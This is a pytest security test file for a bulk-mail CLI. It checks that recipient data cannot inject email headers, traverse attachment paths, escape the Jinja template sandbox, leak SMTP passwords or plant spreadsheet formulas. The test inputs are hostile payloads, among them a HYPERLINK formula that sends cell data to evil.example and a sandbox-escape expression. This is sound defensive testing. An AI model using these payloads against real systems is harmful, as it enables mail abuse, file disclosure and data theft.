"""Rows are untrusted input: every attack of issue 7, tried through check, the dry run and a real send.

Each test writes a template and a recipients file, runs the commands as a user would, and
asserts on what the SMTP server received.
"""

from __future__ import annotations

import base64
import csv
import email
import email.policy
import os
import re
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from aiosmtpd.smtp import AuthResult
from typer.testing import CliRunner

from mailblast.cli import app
from mailblast.message.compose import RowError, Template
from mailblast.message.recipients import Recipient, RecipientsFile
from tests.servers import SmtpServer, refuse_by_policy

Server = Callable[..., SmtpServer]
VICTIM = "victim@example.com"


def run(cwd: Path, *args: str | Path, env: dict[str, str] | None = None) -> tuple[int, str]:
    old = Path.cwd()
    os.chdir(cwd)
    try:
        result = CliRunner().invoke(app, [str(a) for a in args], env=env, catch_exceptions=False)
    finally:
        os.chdir(old)
    return result.exit_code, result.output


def campaign(tmp_path: Path, template: str, rows: list[dict[str, str]], name: str = "t.txt") -> None:
    (tmp_path / name).write_text(template, encoding="utf-8")
    with (tmp_path / "people.csv").open("w", encoding="utf-8", newline="") as f:
        writer = csv.DictWriter(f, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)


def assert_refused(
    tmp_path: Path,
    server: SmtpServer,
    *words: str,
    extra: tuple[str, ...] = (),
    where: str = "row 1 (line 2)",
) -> str:
    """check, the dry run and send all refuse row 1 with one line holding ``words``; nothing sent."""
    base = ("people.csv", "-t", "t.txt", *extra)
    code, out = run(tmp_path, "check", *base)
    assert code == 2, out
    lines = [line for line in out.splitlines() if line.startswith("error:")]
    assert len(lines) == 1, out
    assert where in lines[0], out
    for word in words:
        assert word in lines[0], (word, out)
    code, out = run(tmp_path, "send", *base, "--dry-run", "--out", "outbox")
    assert code == 2, out
    assert not list((tmp_path / "outbox").glob("*.eml"))
    code, out = run(tmp_path, "send", *base, "--smtp", server.url, "--no-journal")
    assert code == 2, out
    assert server.received == []
    return lines[0]


def sent(tmp_path: Path, server: SmtpServer, *extra: str, report: str | None = None) -> tuple[int, str]:
    """check passes; then send, with ``report`` as --report."""
    code, out = run(tmp_path, "check", "people.csv", "-t", "t.txt", *extra)
    assert code == 0, out
    more = ("--report", report) if report else ()
    return run(
        tmp_path, "send", "people.csv", "-t", "t.txt", "--smtp", server.url, "--no-journal", *extra, *more
    )


# 1. line breaks of every kind, NUL and other controls, in any header -----------------------------


@pytest.mark.parametrize("brk", ["\u2028", "\u2029", "\x85", "\x0b", "\x0c", "\x1c", "\r", "\n"])
@pytest.mark.parametrize("header", ["Subject: Hello {{ name }}", "X-Campaign: {{ name }}"])
def test_no_line_break_of_any_kind_reaches_a_header(
    tmp_path: Path, smtp_server: Server, brk: str, header: str
) -> None:
    name = f"Hi{brk}Attachment: /etc/passwd{brk}Bcc: attacker@evil.com"
    campaign(tmp_path, f"From: a@example.com\n{header}\n\nbody\n", [{"email": VICTIM, "name": name}])
    line = assert_refused(tmp_path, smtp_server(), 'column "name"', "line break would reach a header")
    assert f"U+{ord(brk):04X}" in line


def test_nul_and_controls_are_refused(tmp_path: Path, smtp_server: Server) -> None:  # 5
    campaign(
        tmp_path,
        "From: a@example.com\nSubject: Hello {{ name }}\n\nbody\n",
        [{"email": VICTIM, "name": "Al\x00ice"}],
    )
    assert_refused(tmp_path, smtp_server(), 'column "name"', "control character", "U+0000")


def test_tab_and_unicode_are_data(tmp_path: Path, smtp_server: Server) -> None:
    campaign(
        tmp_path,
        "From: a@example.com\nSubject: Hello {{ name }}\n\nbody\n",
        [{"email": VICTIM, "name": "Zoë\tÅgren 🎉"}],
    )
    server = smtp_server()
    code, out = sent(tmp_path, server)
    assert code == 0, out
    assert server.received[0].message["Subject"] == "Hello Zoë\tÅgren 🎉"


def test_a_value_cannot_name_a_header(tmp_path: Path, smtp_server: Server) -> None:
    campaign(
        tmp_path,
        "From: a@example.com\n{{ kind }}: attacker@evil.com\n\nbody\n",
        [{"email": VICTIM, "kind": "Bcc"}],
    )
    assert_refused(tmp_path, smtp_server(), 'column "kind"', "header's name")


# 2. attachments stay inside their folder ----------------------------------------------------------


@pytest.fixture
def invoices(tmp_path: Path) -> Path:
    folder = tmp_path / "invoices"
    folder.mkdir()
    (folder / "a.pdf").write_bytes(b"%PDF-1.4 invoice")
    (tmp_path / "secret.txt").write_text("top secret")
    return folder


@pytest.mark.parametrize(
    ("value", "words"),
    [
        ("../../../../etc/shadow", "'..' is refused"),
        ("../secret.txt", "'..' is refused"),
        ("/etc/passwd", "not found"),  # invoices//etc/passwd: inside, and not there
        ("out", "leads outside"),  # a symlink out of the folder
        ("sub", "is a folder"),
        ("", "is a folder"),  # "invoices/" itself
        ("fifo", "not a regular file"),
        ("missing.pdf", "not found"),
    ],
)
def test_attachment_paths_stay_inside(
    tmp_path: Path, smtp_server: Server, invoices: Path, value: str, words: str
) -> None:
    outside = tmp_path.parent / f"{tmp_path.name}-secret.txt"
    outside.write_text("top secret")
    (invoices / "out").symlink_to(outside)
    (invoices / "sub").mkdir()
    os.mkfifo(invoices / "fifo")
    campaign(
        tmp_path,
        "From: a@example.com\nSubject: s\nAttachment: invoices/{{ f }}\n\nbody\n",
        [{"email": VICTIM, "f": value}],
    )
    assert_refused(tmp_path, smtp_server(), words, *(('column "f"',) if value else ()))


def test_absolute_rendered_path_is_refused(tmp_path: Path, smtp_server: Server) -> None:
    campaign(
        tmp_path,
        "From: a@example.com\nSubject: s\nAttachment: {{ f }}\n\nbody\n",
        [{"email": VICTIM, "f": str(tmp_path / "t.txt")}],
    )
    assert_refused(tmp_path, smtp_server(), 'column "f"', "absolute path is refused")


def test_attachments_over_the_size_limit(tmp_path: Path, smtp_server: Server, invoices: Path) -> None:
    (invoices / "big.bin").write_bytes(b"x" * 1_500_000)
    campaign(
        tmp_path,
        "From: a@example.com\nSubject: s\nAttachment: invoices/{{ f }}\n\nbody\n",
        [{"email": VICTIM, "f": "big.bin"}],
    )
    assert_refused(tmp_path, smtp_server(), "over the limit of 1 MB", extra=("--attachments-max-mb", "1"))
    server = smtp_server()
    code, out = sent(tmp_path, server)  # the default limit is 10 MB
    assert code == 0, out
    assert [p.get_filename() for p in server.received[0].message.iter_attachments()] == ["big.bin"]


def test_attachments_dir_is_the_root(tmp_path: Path, smtp_server: Server, invoices: Path) -> None:
    campaign(
        tmp_path,
        "From: a@example.com\nSubject: s\nAttachment: {{ f }}\n\nbody\n",
        [{"email": VICTIM, "f": "a.pdf"}],
    )
    server = smtp_server()
    code, out = sent(tmp_path, server, "--attachments-dir", "invoices")
    assert code == 0, out
    (part,) = server.received[0].message.iter_attachments()
    assert part.get_filename() == "a.pdf" and part.get_content() == b"%PDF-1.4 invoice"
    (tmp_path / "people.csv").write_text(f"email,f\n{VICTIM},../t.txt\n")
    code, out = run(tmp_path, "check", "people.csv", "-t", "t.txt", "--attachments-dir", "invoices")
    assert code == 2 and "'..' is refused" in out


# 3. a name cannot add an address ------------------------------------------------------------------


@pytest.mark.parametrize(
    "name", ["attacker2@evil.com, Bob", "Bob <attacker3@evil.com>, Real", "x@evil.com ("]
)
def test_raw_name_in_an_address_header_cannot_add_an_address(
    tmp_path: Path, smtp_server: Server, name: str
) -> None:
    campaign(
        tmp_path,
        "From: a@example.com\nTo: {{ name }} <{{ email }}>\nSubject: s\n\nbody\n",
        [{"email": VICTIM, "name": name}],
    )
    assert_refused(
        tmp_path, smtp_server(), 'column "name"', "would change the addresses", "mailbox(name, email)"
    )


@pytest.mark.parametrize(
    "name", ["attacker2@evil.com, Bob", "Bob <attacker3@evil.com>, Real", 'Al "Bo" \\ Cy']
)
def test_mailbox_keeps_the_name_as_data(tmp_path: Path, smtp_server: Server, name: str) -> None:
    campaign(
        tmp_path,
        "From: a@example.com\nTo: {{ mailbox(name, email) }}\nSubject: s\n\nbody\n",
        [{"email": VICTIM, "name": name}],
    )
    server = smtp_server()
    code, out = sent(tmp_path, server)
    assert code == 0, out
    (received,) = server.received
    assert received.rcpt_tos == [VICTIM]
    (address,) = received.message["To"].addresses
    assert (address.display_name, address.addr_spec) == (name, VICTIM)


def test_a_lone_value_is_one_address(tmp_path: Path, smtp_server: Server) -> None:
    campaign(
        tmp_path,
        "From: a@example.com\nSubject: s\nCc: {{ manager }}\n\nbody\n",
        [{"email": VICTIM, "manager": "boss@example.com, attacker@evil.com"}],
    )
    assert_refused(tmp_path, smtp_server(), 'column "manager"', "holds 2 addresses")


# 4. delivery to the row's own address is what counts ------------------------------------------------


def test_refused_own_address_fails_the_row_whatever_cc_got(tmp_path: Path, smtp_server: Server) -> None:
    campaign(
        tmp_path,
        "From: a@example.com\nSubject: s\nCc: {{ manager }}\nBcc: audit@example.com\n\nbody\n",
        [
            {"email": VICTIM, "manager": "boss@example.com"},
            {"email": "ok@example.com", "manager": "gone@example.com"},
        ],
    )
    server = smtp_server(reject_recipients={VICTIM, "gone@example.com"})
    code, out = sent(tmp_path, server, report="failed.csv")
    assert code == 1, out
    # the row's own address was refused: nobody got the message, not even the accepted Cc
    assert [r.rcpt_tos for r in server.received] == [["ok@example.com", "audit@example.com"]]
    rows = list(csv.DictReader((tmp_path / "failed.csv").open(encoding="utf-8")))
    assert [(r["email"], r["status"], r["smtp_code"]) for r in rows] == [(VICTIM, "failed", "550")]
    assert VICTIM in rows[0]["error"]


def test_refused_copies_are_listed_on_the_failed_row(tmp_path: Path, smtp_server: Server) -> None:
    campaign(
        tmp_path,
        "From: a@example.com\nSubject: s\nCc: {{ manager }}\n\nbody\n",
        [
            {"email": VICTIM, "manager": "gone@example.com"},
        ],
    )
    server = smtp_server(reject_recipients={VICTIM, "gone@example.com"})
    code, out = sent(tmp_path, server, report="failed.csv")
    assert code == 1, out
    assert server.received == []
    (row,) = csv.DictReader((tmp_path / "failed.csv").open(encoding="utf-8"))
    assert "gone@example.com" in row["error"] and VICTIM in row["error"]


# 6. {{ email }} and row are what they say ----------------------------------------------------------


def test_email_is_the_rows_address_and_row_the_row(tmp_path: Path, smtp_server: Server) -> None:
    template = (
        "From: a@example.com\nTo: {{ email }}\nSubject: {{ row['email'] }} / {{ row['row'] }} / "
        "{{ row | length }}\n\nbody\n"
    )
    campaign(tmp_path, template, [{"mail": VICTIM, "email": "other@evil.com", "row": "R"}])
    server = smtp_server()
    code, out = run(tmp_path, "check", "people.csv", "-t", "t.txt", "--email-column", "mail")
    assert code == 0, out
    warnings = [line for line in out.splitlines() if line.startswith("warning:") and "built-in" in line]
    assert len(warnings) == 2, out
    assert 'column "email"' in warnings[0] and 'row["email"]' in warnings[0]
    assert 'column "row"' in warnings[1] and 'row["row"]' in warnings[1]
    code, out = run(
        tmp_path, "send", "people.csv", "-t", "t.txt", "--email-column", "mail", "--dry-run", "--out", "o"
    )
    assert code == 0, out
    (eml,) = (tmp_path / "o").glob("*.eml")
    dry = email.message_from_bytes(eml.read_bytes(), policy=email.policy.default)
    assert (dry["To"], dry["Subject"]) == (VICTIM, "other@evil.com / R / 3")
    code, out = run(
        tmp_path,
        "send",
        "people.csv",
        "-t",
        "t.txt",
        "--email-column",
        "mail",
        "--smtp",
        server.url,
        "--no-journal",
    )
    assert code == 0, out
    (received,) = server.received
    assert received.rcpt_tos == [VICTIM]
    assert received.message["To"] == VICTIM
    assert received.message["Subject"] == "other@evil.com / R / 3"


# 10. templates from someone else --------------------------------------------------------------------


@pytest.mark.parametrize(
    ("expression", "words"),
    [
        ("{{ cycler.__init__.__globals__.os.getcwd() }}", "unsafe"),
        ("{% for i in range(10**9) %}x{% endfor %}", "Range too big"),
        ("{% for i in range(99999) %}{% for j in range(99999) %}{% endfor %}{% endfor %}", "more than 5 s"),
        ("{% for i in range(99999) %}{{ 'x' * 999 }}{% endfor %}", "more than 10,000,000 characters"),
        ("{{ 'x' * 10**9 }}", "larger than the sandbox allows"),
        ("{{ 'x' | center(10**9) }}", "larger than the sandbox allows"),
        ("{{ 'x'.ljust(10**9) }}", "larger than the sandbox allows"),
        ("{% include 'evil.txt' %}", "outside the template's folder"),
        ("{% import 'evil.txt' as e %}", "outside the template's folder"),
    ],
)
def test_the_template_is_sandboxed(tmp_path: Path, smtp_server: Server, expression: str, words: str) -> None:
    outside = tmp_path.parent / f"{tmp_path.name}-outside.txt"
    outside.write_text("secret from outside")
    (tmp_path / "evil.txt").symlink_to(outside)
    # the sandbox's refusals are written in the template: said once, for every row
    template_fault = words in ("unsafe", "larger than the sandbox allows", "outside the template's folder")
    rows = [{"email": VICTIM}, {"email": "b@example.com"}][: 2 if template_fault else 1]
    campaign(tmp_path, f"From: a@example.com\nSubject: s\n\n{expression}\n", rows)
    where = "t.txt: the template is refused" if template_fault else "row 1 (line 2)"
    line = assert_refused(tmp_path, smtp_server(), words, where=where)
    assert ("(all 2 rows)" in line) == template_fault, line


def test_includes_inside_the_folder_work(tmp_path: Path, smtp_server: Server) -> None:
    (tmp_path / "parts").mkdir()
    (tmp_path / "parts" / "footer.txt").write_text("-- the team {{ name }}")
    (tmp_path / "footer.txt").symlink_to(tmp_path / "parts" / "footer.txt")  # a symlink that stays inside
    campaign(
        tmp_path,
        "From: a@example.com\nSubject: s\n\nHi\n{% include 'footer.txt' %}\n",
        [{"email": VICTIM, "name": "Ann"}],
    )
    server = smtp_server()
    code, out = sent(tmp_path, server)
    assert code == 0, out
    assert "-- the team Ann" in server.received[0].message.get_content()


# 7. a server that echoes the AUTH line ---------------------------------------------------------------

PASSWORD = "s3cret-Horse-battery"


class EchoingAuthServer(SmtpServer):
    """Refuses every login with a 535 that repeats what it was sent, as some servers do."""

    def _authenticate(
        self, server: Any, session: Any, envelope: Any, mechanism: str, data: Any
    ) -> AuthResult:
        login, password = data.login, data.password
        plain = base64.b64encode(b"\0" + login + b"\0" + password).decode()
        echo = (
            f"535 5.7.8 Authentication failed: AUTH {mechanism} {plain} "
            f"({base64.b64encode(password).decode()}, {password.decode()}, part {plain[6:-2]})"
        )
        return AuthResult(success=False, handled=False, message=echo)


def test_an_echoed_password_never_leaves(tmp_path: Path) -> None:
    server = EchoingAuthServer(auth={"mailer": PASSWORD}).start()
    try:
        campaign(
            tmp_path, "From: a@example.com\nSubject: s\n\nbody\n", [{"email": VICTIM}, {"email": "b@x.org"}]
        )
        url = f"smtp://mailer@{server.url.split('//')[1]}"
        env = {"MAILBLAST_SMTP_PASSWORD": PASSWORD}
        code, out = run(
            tmp_path, "send", "people.csv", "-t", "t.txt", "--smtp", url, "--report", "r.csv", env=env
        )
    finally:
        server.stop()
    assert code == 3, out
    assert "535 5.7.8 Authentication failed" in out and "[redacted]" in out
    stored = [
        (tmp_path / "r.csv").read_bytes(),
        *(p.read_bytes() for p in tmp_path.glob("people.csv.mailblast*")),
    ]
    assert "[redacted]" in stored[0].decode()
    raw = PASSWORD.encode()
    forms = [raw, base64.b64encode(raw), base64.b64encode(b"\0mailer\0" + raw)]
    forms += [base64.b64encode(b"\0" * k + raw)[4:-4] for k in range(3)]  # any alignment inside a blob
    for form in forms:
        assert form.decode() not in out, form
        for data in stored:
            assert form not in data, form


# 8. a password-looking part of a URL ---------------------------------------------------------------------


@pytest.mark.parametrize("url", ["smtp://user:secretpw", "smtp://user:secretpw/", "smtps://host:secretpw@"])
def test_url_errors_never_repeat_what_follows_the_user(tmp_path: Path, url: str) -> None:
    campaign(tmp_path, "From: a@example.com\nSubject: s\n\nbody\n", [{"email": VICTIM}])
    code, out = run(tmp_path, "send", "people.csv", "-t", "t.txt", "--smtp", url)
    assert code == 2, out
    assert "secretpw" not in out


# 9. formulas in the report ---------------------------------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+2",
    "-3",
    "@SUM(A1:A9)",
    "\tTab",
    "\rCR",
    "'q",
]


def test_report_cells_never_run_as_formulas_and_read_back_as_they_were(
    tmp_path: Path, smtp_server: Server
) -> None:
    rows = [{"email": f"u{i}@example.com", "note": v, "@col": v} for i, v in enumerate(FORMULAS)]
    campaign(tmp_path, "From: a@example.com\nSubject: s\n\n{{ note }}|{{ row['@col'] }}|\n", rows)
    server = smtp_server(reply_hook=refuse_by_policy(lambda address: True))  # 5.1.1 would suppress
    code, out = sent(tmp_path, server, report="failed.csv")
    assert code == 1, out
    cells = list(csv.reader((tmp_path / "failed.csv").open(encoding="utf-8", newline="")))
    assert cells[0][:3] == ["email", "note", "'@col"]
    for line in cells[1:]:
        for cell in line:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
        row = int(line[0].removeprefix("u").partition("@")[0])  # connections may finish out of order
        assert line[1] == line[2] == "'" + FORMULAS[row]
    # the report is a recipients file: read back, every value is what it was
    fixed = smtp_server()
    code, out = run(tmp_path, "send", "failed.csv", "-t", "t.txt", "--smtp", fixed.url, "--no-journal")
    assert code == 0, out

    def lines(text: str) -> str:  # a bare CR in a text body reaches the reader as a line break
        return re.sub(r"[\r\n]+", "\n", text).strip("\n")

    bodies = sorted(lines(r.message.get_content()) for r in fixed.received)
    assert bodies == sorted(lines(f"{v}|{v}|") for v in FORMULAS)
    report = RecipientsFile(tmp_path / "failed.csv")
    assert report.format.header[:3] == ("email", "note", "@col")
    read_back = [
        (r.recipient.fields["note"], r.recipient.fields["@col"]) for r in report.rows() if r.recipient
    ]
    assert sorted(read_back) == sorted((v, v) for v in FORMULAS)  # in the order the sends finished


# the marks that keep values apart cannot be forged ---------------------------------------------------


def one_row(tmp_path: Path, template: str) -> Template:
    (tmp_path / "t.txt").write_text(template, encoding="utf-8")
    return Template(tmp_path / "t.txt")


@pytest.mark.parametrize("forged", ["\x02x\x03", "\x03", "\x01Bob\x1fattacker@evil.com\x03", "\x1f"])
def test_a_value_holding_mark_characters_is_refused(tmp_path: Path, forged: str) -> None:
    template = one_row(tmp_path, "From: a@example.com\nCc: {{ manager }}\nSubject: {{ name }}\n\nbody\n")
    for fields in ({"name": forged, "manager": ""}, {"name": "n", "manager": forged}):
        with pytest.raises(RowError, match="control character"):
            template.render(Recipient(1, 2, {"email": VICTIM, **fields}, VICTIM))


def test_macros_and_filter_blocks_keep_values_marked(tmp_path: Path) -> None:
    template = one_row(
        tmp_path,
        "{% macro greet(n) %}Hi {{ n }}{% endmacro %}From: a@example.com\nTo: {{ mailbox(name, email) }}\n"
        "Subject: {{ greet(name) }} / {% filter upper %}{{ name }}{% endfilter %}\n\nbody\n",
    )
    message = template.compose(Recipient(1, 2, {"email": VICTIM, "name": "Bo, <x@evil.com>"}, VICTIM))
    assert message.envelope_to == [VICTIM]
    assert message.parsed()["Subject"] == "Hi Bo, <x@evil.com> / BO, <X@EVIL.COM>"
    with pytest.raises(RowError, match="line break"):
        template.render(Recipient(1, 2, {"email": VICTIM, "name": "a\u2028b"}, VICTIM))


def test_an_encoded_word_in_a_value_reads_as_written(tmp_path: Path) -> None:
    template = one_row(
        tmp_path, "From: a@example.com\nTo: {{ mailbox(name, email) }}\nSubject: {{ name }}\n\nb\n"
    )
    lookalike = "=?utf-8?q?Your_bank?="
    parsed = template.compose(Recipient(1, 2, {"email": VICTIM, "name": lookalike}, VICTIM)).parsed()
    assert parsed["Subject"] == lookalike
    assert parsed["To"].addresses[0].display_name == lookalike
